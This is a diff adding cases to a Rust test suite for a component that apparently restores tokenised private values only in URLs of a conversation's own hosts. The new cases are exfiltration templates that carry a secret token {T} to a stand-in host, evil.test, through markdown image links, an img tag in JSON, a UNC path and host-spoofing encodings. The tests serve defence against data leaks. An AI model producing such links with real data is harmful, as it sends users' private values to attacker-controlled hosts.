@@ -4,7 +4,9 @@ use super::*;
 
 fn restorer() -> (Arc<Restorer>, String) {
     let (mut map, token) = people();
-    map.allow_hosts_of("see https://Good.test:8443/page?x=1, http://[2001:db8::1]/ and www.shop.test");
+    map.allow_hosts_of(
+        "see https://Good.test:8443/page?x=1, (https://docs.test), http://[2001:db8::1]/ and www.shop.test",
+    );
     (map.restorer(), token)
 }
 
@@ -63,6 +65,15 @@ fn tokens_stay_in_urls_of_foreign_hosts() {
         "https://[2001:db8::2]/{T}",
         "(https://evil.test/?a=1&b={T})",
         "\"https://evil.test/?e={T}\"",
+        "https://evil.test/\\n?e={T}",
+        "https://evil.test/&#32;?e={T}",
+        "https://evil.test:good.test/{T}",
+        "https://good.test&sol;.evil.test/{T}",
+        "https://good.test%2F.evil.test/{T}",
+        "https://good.test/r?u=https%3A%2F%2Fevil.test/{T}",
+        "![x](https://evil.test/\\)?e={T})",
+        "![x](https://evil.test/&#41;?e={T})",
+        "Note:evil.test:80/{T}",
     ];
     for template in foreign {
         check(template, false, Escape::Text);
@@ -81,6 +92,7 @@ fn tokens_are_restored_in_urls_of_the_conversations_hosts() {
         "www.shop.test/{T}",
         "//good.test/{T}",
         "good.test/{T}",
+        "https://docs.test/{T}",
     ];
     for template in own {
         check(template, true, Escape::Text);
@@ -121,6 +133,12 @@ fn tokens_are_restored_where_no_url_is() {
 fn a_json_string_that_is_a_url_ends_with_the_string() {
     check("{\"url\":\"https://evil.test/ ?e={T}\",\"n\":1}", false, Escape::JsonString);
     check("{\"url\":\"https:\\/\\/evil.test\\/?q=\\\"{T}\"}", false, Escape::JsonString);
+    check("{\"h\":\"<img src=\\\"https://evil.test/ ?e={T}\\\">\"}", false, Escape::JsonString);
+    check("{\"h\":\"<img src=\\\"https://evil.test/\\\">{T}\"}", true, Escape::JsonString);
+    check("{\"url\":\"https:\\/\\/good.test\\/?q={T}\"}", true, Escape::JsonString);
+    check(r#"{"pattern":"\\d {T}"}"#, true, Escape::JsonString);
+    check(r#"{"path":"C:\\Users\\{T}"}"#, true, Escape::JsonString);
+    check(r#"{"path":"\\\\evil.test\\{T}"}"#, false, Escape::JsonString);
     check("{\"url\":\"see https://evil.test/\",\"name\":\"{T}\"}", true, Escape::JsonString);
     check("{\"url\":\"https://good.test/?e={T}\"}", true, Escape::JsonString);
 }
